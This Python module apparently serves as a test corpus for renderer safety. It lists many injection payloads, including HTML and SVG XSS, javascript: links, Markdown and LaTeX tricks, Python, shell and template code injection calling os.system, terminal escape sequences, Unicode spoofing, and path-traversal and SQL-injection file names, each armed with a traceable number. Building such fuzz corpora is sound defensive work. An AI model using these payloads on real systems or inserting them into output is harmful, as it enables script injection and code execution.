"""Texts that attack whatever shows them: HTML, Markdown, Python, templates, terminals, file names.

Each family is a way that pages, notebooks or terminals were taken over by a name. ``%JS%`` stands
where a script would stand, ``%URL%`` where an address would, ``%N%`` where a number may: ``armed``
puts in what shows, by the number, which payload in which place came alive. ``OWNED`` is the file
that payloads for Python and shells write.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

OWNED = "owned"
_TOUCH = f'open("{OWNED}","w")'
_SYSTEM = f"__import__('os').system('touch {OWNED}')"


class Payload(NamedTuple):
    """An attack: the family that it is of, and its text."""

    family: str
    text: str

    def armed(self, number: int, url: str) -> str:
        """The text with a script that logs ``number`` and addresses that end in it."""
        text = self.text.replace("%JS%", f"console.log({number})")
        text = text.replace("%URL%", f"{url}/{number}").replace("%N%", str(number))
        return text if str(number) in text else f"{text} {number}"


HTML = (
    "<script>%JS%</script>",
    "<ScRiPt >%JS%</sCrIpT>",
    "<script/x>%JS%</script>",
    "<script\n>%JS%</script\n>",
    "<script src=%URL%></script>",
    "<script type=module>%JS%</script>",
    '<script type=importmap>{"imports":{"x":"%URL%"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["%URL%"]}]}</script>',
    "<<script>%JS%//<</script>",
    "<scr<script>ipt>%JS%</scr</script>ipt>",
    "</script><script>%JS%</script>",
    "</title><script>%JS%</script>",
    "</style><script>%JS%</script>",
    "</textarea><script>%JS%</script>",
    "</td></tr></table><script>%JS%</script>",
    "</pre></div><script>%JS%</script>",
    '"><script>%JS%</script>',
    "'><script>%JS%</script>",
    "--><script>%JS%</script>",
    "]]><script>%JS%</script>",
    "<!--><script>%JS%</script>-->",
    '<!--<img src="--><img src=x onerror=%JS%>">',
    "<![CDATA[<script>%JS%</script>]]>",
    "<?x <script>%JS%</script> ?>",
    "<template shadowrootmode=open><script>%JS%</script></template>",
    "<p><template shadowrootmode=open><img src=x onerror=%JS%></template></p>",
)
HANDLERS = (
    "<img src=x onerror=%JS%>",
    "<img/src=x/onerror=%JS%>",
    '<img src="x"onerror="%JS%">',
    "<img src=x onerror=%JS%//",
    "<IMG SRC=x OnErRoR='%JS%'>",
    "<img src=x:x onerror\n=\n%JS%>",
    "<img src=x onerror=&#99;onsole.log(%N%)>",
    "<img src=`x` onerror=%JS%>",
    "<img src=x alt=`><img src=x onerror=%JS%>`>",
    '" onmouseover="%JS%" x="',
    "' onmouseover='%JS%' x='",
    "x onmouseover=%JS% y",
    "<b onmouseover=%JS%>over</b>",
    "<b onclick=%JS%>click</b>",
    "<p onpointerover=%JS%>point</p>",
    "<body onload=%JS%>",
    "<body onpageshow=%JS%>",
    "<svg onload=%JS%>",
    "<svg/onload=%JS%>",
    "<svg><animate onbegin=%JS% attributeName=x dur=1s>",
    "<svg><set onbegin=%JS% attributeName=x dur=1s>",
    "<input autofocus onfocus=%JS%>",
    "<select autofocus onfocus=%JS%></select>",
    "<textarea autofocus onfocus=%JS%></textarea>",
    "<button autofocus onfocus=%JS%>b</button>",
    "<a id=x tabindex=1 autofocus onfocus=%JS%>a</a>",
    "<details open ontoggle=%JS%><summary>d</summary></details>",
    "<video src=x onerror=%JS%></video>",
    "<video><source onerror=%JS%></video>",
    "<audio src=x onerror=%JS%></audio>",
    "<marquee onstart=%JS%>m</marquee>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=%JS%>k</b>",
    "<object data=x onerror=%JS%></object>",
    "<iframe onload=%JS%></iframe>",
    "<link rel=stylesheet href=x onerror=%JS%>",
    "<script src=x onerror=%JS%></script>",
    "<div contenteditable onblur=%JS% tabindex=1>e</div>",
    "<dialog open onclose=%JS%><form method=dialog><button>d</button></form></dialog>",
)
SCHEMES = (
    "<a href=javascript:%JS%>link</a>",
    "<a href=JaVaScRiPt:%JS%>link</a>",
    "<a href='java\tscript:%JS%'>link</a>",
    "<a href='java\nscript:%JS%'>link</a>",
    "<a href=' \x01javascript:%JS%'>link</a>",
    "<a href=&#106;avascript:%JS%>link</a>",
    "<a href=javascript&colon;%JS%>link</a>",
    "<a href='javascript:&percnt;0a%JS%'>link</a>",
    "<a href='data:text/html,<script>%JS%</script>'>link</a>",
    "<a href=vbscript:msgbox(%N%)>link</a>",
    "<a href=file:///etc/passwd>link %N%</a>",
    "<a href='blob:null/%N%'>link</a>",
    "<form action=javascript:%JS%><button>send</button></form>",
    "<form><button formaction=javascript:%JS%>send</button></form>",
    "<form><input type=submit formaction=javascript:%JS%></form>",
    "<iframe src=javascript:%JS%></iframe>",
    "<iframe srcdoc='<script>%JS%</script>'></iframe>",
    "<iframe src='data:text/html,<script>%JS%</script>'></iframe>",
    "<embed src='javascript:%JS%'>",
    "<object data='data:text/html,<script>%JS%</script>'></object>",
    "<svg><a href=javascript:%JS%><text y=9>link</text></a></svg>",
    "<svg><a xlink:href=javascript:%JS%><text y=9>link</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:%JS% /><text y=9>link</text></a></svg>",
    "<math><mi href=javascript:%JS%>link</mi></math>",
    "<map name=m><area shape=default href=javascript:%JS%></map><img usemap=#m src=x>",
    "<base href=javascript:%JS%//><a href=#>link</a>",
    "<meta http-equiv=refresh content='0;url=javascript:%JS%'>",
)
FOREIGN = (
    "<svg><script>%JS%</script></svg>",
    "<svg><script href=data:,%JS%></script></svg>",
    "<svg><foreignObject><img src=x onerror=%JS%></foreignObject></svg>",
    "<svg><style><img src=x onerror=%JS%></style></svg>",
    "<svg><title><img src=x onerror=%JS%></title></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=%JS%>'>",
    "<math><style><img src=x onerror=%JS%></style></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=%JS%></style></mglyph></table></mtext>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=%JS%></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=%JS%>'>",
    "<noembed><p title='</noembed><img src=x onerror=%JS%>'>",
    "<xmp><p title='</xmp><img src=x onerror=%JS%>'>",
    "<textarea><p title='</textarea><img src=x onerror=%JS%>'>",
    "<select><style></select><img src=x onerror=%JS%></style>",
    "<form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%JS%>",
    "<p title='<img src=x onerror=%JS%>'>title</p>",
    "<xss style=x onclick=%JS%>unknown</xss>",
)
FETCHES = (
    "<img src=%URL%>",
    "<img srcset='%URL% 2x'>",
    "<picture><source srcset=%URL%><img></picture>",
    "<input type=image src=%URL%>",
    "<svg><image href=%URL% /></svg>",
    "<svg><use href=%URL%#x /></svg>",
    "<svg><filter><feImage href=%URL% /></filter></svg>",
    "<link rel=stylesheet href=%URL%>",
    "<link rel=prefetch href=%URL%>",
    "<link rel=preload as=image href=%URL%>",
    "<link rel=icon href=%URL%>",
    "<link rel=preconnect href=%URL%>",
    "<style>@import '%URL%';</style>",
    "<style>@font-face{font-family:f;src:url(%URL%)}*{font-family:f}</style>",
    "<style>body{background:url(%URL%)}</style>",
    "<p style='background:url(%URL%)'>css</p>",
    "<p style='list-style:url(%URL%);display:list-item'>css</p>",
    "<p style='border-image:url(%URL%) 1;border:1px solid'>css</p>",
    "<p style='background:image-set(\"%URL%\" 1x)'>css</p>",
    "<p style='background:\\75rl(%URL%)'>css</p>",
    "<table background=%URL%><tr><td>cell</td></tr></table>",
    "<body background=%URL%>",
    "<video poster=%URL%></video>",
    "<video src=%URL% autoplay></video>",
    "<audio src=%URL% autoplay></audio>",
    "<video><track default src=%URL%></video>",
    "<iframe src=%URL%></iframe>",
    "<embed src=%URL%>",
    "<object data=%URL%></object>",
    "<frameset><frame src=%URL%></frameset>",
    "<meta http-equiv=refresh content='0;url=%URL%'>",
    "<a href=# ping=%URL%>ping</a>",
    "<html manifest=%URL%>",
    "<p style='position:fixed;inset:0;background:red'>over all %N%</p>",
)
MARKDOWN = (
    "[link](javascript:%JS%)",
    "[link](JavaScript:%JS%)",
    "[link](<javascript:%JS%>)",
    "[link](&#106;avascript:%JS%)",
    "[link](javascript&colon;%JS%)",
    "[link](data:text/html,%JS%)",
    "[link](%URL%)",
    "[link][r]\n\n[r]: javascript:%JS%",
    "[r]: %URL%\n\n![image][r]",
    "![image](%URL%)",
    "[![image](%URL%)](javascript:%JS%)",
    '![image](x "onerror=%JS%")',
    "<%URL%>",
    "<javascript:%JS%>",
    "%URL%",
    "www.host.invalid/%N% and mail@host.invalid",
    "# heading %N%",
    "heading %N%\n===",
    "- [x] task %N%\n1. list",
    "a | b\n--|--\n1 | %N%",
    "> quoted %N%",
    "***",
    "**bold** _emphasis_ ~~struck~~ `code` %N%",
    "[^1] %N%\n\n[^1]: footnote",
    "```mermaid\ngraph TD; A[%URL%]\n```",
    "```{=html}\n<script>%JS%</script>\n```",
    "    <script>%JS%</script>",
    "| `<img src=x onerror=%JS%>` |",
    "<details><summary>%N%</summary>\n\n[x](javascript:%JS%)\n</details>",
    "@everyone #1 GH-1 :tada: %N%",
)
FORMULAS = (
    "$\\href{javascript:%JS%}{x}$",
    "$$\\require{html}\\href{javascript:%JS%}{x}$$",
    "\\(\\href{javascript:%JS%}{x}\\)",
    "\\[\\style{background:url(%URL%)}{x}\\]",
    "$\\unicode{60}script$ %N%",
    "\\begin{align}\\cssId{x}{%N%}\\end{align}",
    "$x_1^2$ costs $5 %N%",
)
PYTHON = (
    f'"; {_TOUCH} #',
    f"'; {_TOUCH} #",
    f'"]; {_TOUCH} #',
    f'"\n{_TOUCH}\n"',
    f'" + str({_TOUCH}) + "',
    f'", {_TOUCH}, "',
    f'" if {_TOUCH} else "',
    f'" or {_TOUCH} or "',
    f'"; x = {_TOUCH}; y = "',
    f'" f"{{{_TOUCH}}}',
    f'"); {_TOUCH} #',
    f"'); {_TOUCH} #",
    f'"); {_SYSTEM} #',
    f'")\n{_TOUCH}\n#',
    f'"""\n{_TOUCH}\n"""',
    f"'''\n{_TOUCH}\n'''",
    f'"+{_SYSTEM}+"',
    f'\\"); {_TOUCH} #',
    f"\\\\'); {_TOUCH} #",
    f"{{{_TOUCH}}}",
    f'x"\n# %%\n{_TOUCH}',
    f"x\r# %%\r{_TOUCH}",
    f"x\u2028# %%\u2028{_TOUCH}",
    f"x\x0c\n{_TOUCH}",
    f"\n!touch {OWNED}\n",
    f"%%bash\ntouch {OWNED}",
    f"%run -c {_TOUCH}",
    f"$(touch {OWNED})",
    f"`touch {OWNED}`",
    f"; touch {OWNED} ;",
    f"@file({_TOUCH})",
    f"x?\n{_TOUCH}",
    "\\N{QUOTATION MARK} \\x22 \\u0022 \\",
    f"float('nan'); {_TOUCH}",
    f"__class__.__init__.__globals__ {_TOUCH}",
)
TEMPLATES = (
    "{{ 7*7 }} %N%",
    f"{{{{ cycler.__init__.__globals__.os.system('touch {OWNED}') }}}}",
    f"{{% import os %}}{{{{ os.system('touch {OWNED}') }}}}",
    "{% raw %} %N%",
    "{% endraw %}{{ config }} %N%",
    "{# %N%",
    "#}{{ self }} %N%",
    "${7*7} #{7*7} <%= 7*7 %> %N%",
    "%(name)s {0.__class__} %N%",
)
TERMINALS = (
    "\x1b[31mred\x1b[0m %N%",
    "\x1b[2J\x1b[Hcleared %N%",
    "\x1b]0;title %N%\x07",
    "\x1b]8;;%URL%\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07 %N%",
    "\x1bP+q544e\x1b\\ %N%",
    "\x1b_Gi=1\x1b\\ %N%",
    "\x1b[6n\x1b[c %N%",
    "\x9b31mC1\x9d0;title\x9c %N%",
    "bell\x07 back\x08\x08 del\x7f %N%",
    "over\rwritten %N%",
    "tab\tvt\x0bff\x0c %N%",
    "shift\x0e in\x0f %N%",
    "[/nope] %N%",
    "[bold red]markup[/] %N%",
    "[link=%URL%]link[/link]",
    "[@click=app.bell]x[/] %N%",
    ":warning: [not a tag \\[ %N%",
)
UNICODE = (
    "\u202ertl %N%\u202c",
    "\u2066isolate\u2069 \u2067rtl\u2069 %N%",
    "\u202alre\u202blro\u202d %N%",
    "\u200emarks\u200f\u061c %N%",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff %N%",
    "line\u2028paragraph\u2029 next\x85 %N%",
    "soft\xadhyphen \u180e %N%",
    "tag\U000e0001\U000e0041 %N%",
    "private\ue000\U000f0000 %N%",
    "not\ufffe\uffff\U0001ffff %N%",
    "＜script＞%JS%＜/script＞",
    "+ADw-script+AD4-%JS%",
    "%3Cscript%3E%JS%",
    "&lt;script&gt;%JS%&lt;/script&gt;",
    "&amp;lt;img src=x onerror=%JS%&amp;gt;",
    "z\u0351\u034e\u0361a\u0336\u0353lgo %N%",
    "emoji \U0001f600\u200d\U0001f525 汉字 ñ ﷽ %N%",
    "ℌomoglyph раураl %N%",
)
NAMES = (
    "../../etc/passwd %N%",
    "/etc/passwd %N%",
    "..\\..\\x %N%",
    "C:\\x %N%",
    "-rf %N%",
    "CON.txt %N%",
    "q?x=%N%&y#z",
    '=HYPERLINK("%URL%")',
    "'; DROP TABLE runs; -- %N%",
    "quotes ' \" ''' \"\"\" ` %N%",
    "back\\slash \\ %N%",
    "nan",
    "1e999",
    "0x10",
    " leading and trailing %N% ",
    "_leading underscore %N%",
)
PAYLOADS = tuple(
    Payload(family, text)
    for family, texts in (
        ("html", HTML),
        ("handler", HANDLERS),
        ("scheme", SCHEMES),
        ("foreign", FOREIGN),
        ("fetch", FETCHES),
        ("markdown", MARKDOWN),
        ("formula", FORMULAS),
        ("python", PYTHON),
        ("template", TEMPLATES),
        ("terminal", TERMINALS),
        ("unicode", UNICODE),
        ("name", NAMES),
    )
    for text in texts
)


def planted(slots: int, url: str) -> Iterator[tuple[int, int, str]]:
    """Every payload for every slot: payload, slot, and the text, armed with a number of its own."""
    for place, payload in enumerate(PAYLOADS):
        for slot in range(slots):
            yield place, slot, payload.armed(numbered(place, slot), url)


def numbered(place: int, slot: int) -> int:
    """The number by which a payload in a slot is known; six digits that no text has otherwise."""
    return 700_000 + 100 * place + slot


def placed(number: int) -> tuple[str, int]:
    """The text of the payload and the slot that a number stands for."""
    place, slot = divmod(number - 700_000, 100)
    return PAYLOADS[place].text, slot
